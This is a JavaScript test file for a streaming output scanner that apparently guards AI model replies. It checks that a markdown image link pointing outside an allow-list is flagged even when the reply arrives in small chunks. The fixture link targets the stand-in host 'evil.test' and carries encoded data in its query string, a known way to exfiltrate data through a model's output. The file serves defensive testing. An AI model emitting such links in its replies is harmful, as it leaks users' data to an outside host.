// The incremental output scanner: fed a reply chunk by chunk (an
// exfiltration link cut at every position), it reports what scanOutput
// reports on the whole reply, with spans in UTF-16 units of the reply.
import { test } from "node:test";
import assert from "node:assert/strict";
import { Scanner } from "promptsieve";

const scanner = new Scanner();
const ctx = { allowedHosts: ["example.com"] };
const link = "![chart](https://evil.test/c.png?d=YWxpY2U)";
// Emoji before the link make UTF-16 offsets differ from UTF-8 and code
// points. The stream scans once 256 new bytes have gathered, so the text
// after the link is longer than that: the link must be seen before the end.
const reply = "Résumé 😀😀 " + "filler text. ".repeat(30) + link + " and https://docs.example.com/x" + " more.".repeat(60);
const whole = scanner.scanOutput(reply, ctx);

test("scanOutput flags the link (the baseline the stream must match)", () => {
  assert.ok(whole.flagged);
  assert.ok(whole.findings.some((f) => f.rule === "output-link-outside-allowlist"));
  for (const f of whole.findings) assert.equal(reply.slice(f.start, f.end), f.text);
});

test("a link cut at every position is found while streaming, and finish() equals scanOutput", () => {
  const at = reply.indexOf(link);
  for (let cut = at; cut <= at + link.length; cut++) {
    const o = scanner.outputStream(ctx);
    const seen = [];
    // Small chunks around the cut, as a model's tokens would arrive.
    const pieces = [reply.slice(0, cut)];
    for (let i = cut; i < reply.length; i += 7) pieces.push(reply.slice(i, i + 7));
    let stopped = false;
    let sofar = "";
    for (const p of pieces) {
      sofar += p;
      for (const f of o.push(p)) {
        assert.equal(sofar.slice(f.start, f.end), f.text, `span of ${f.rule} (cut ${cut})`);
        seen.push(f);
      }
      stopped ||= o.shouldStop;
    }
    assert.ok(stopped, `shouldStop before the end (cut ${cut})`);
    assert.ok(seen.some((f) => f.rule === "output-link-outside-allowlist"), `link seen while streaming (cut ${cut})`);
    assert.deepEqual(o.finish(), whole, `finish() at cut ${cut}`);
  }
});

// Chunks of 11 cut the allowed link "https://docs.example.com" at many
// places; a window that ended inside it once reported "https://docs.example"
// as a link outside the allow-list.
test("a clean reply never stops the stream, nor reports a link cut short", () => {
  const o = scanner.outputStream(ctx);
  const clean = "See https://docs.example.com/guide for details. ".repeat(20);
  for (let i = 0; i < clean.length; i += 11) assert.deepEqual(o.push(clean.slice(i, i + 11)), []);
  assert.equal(o.shouldStop, false);
  assert.deepEqual(o.finish(), scanner.scanOutput(clean, ctx));
});

test("outputStream refuses unknown context keys and non-string chunks", () => {
  assert.throws(() => scanner.outputStream({ allowedHost: ["x"] }), /allowedHost/);
  assert.throws(() => scanner.outputStream().push(42), TypeError);
});
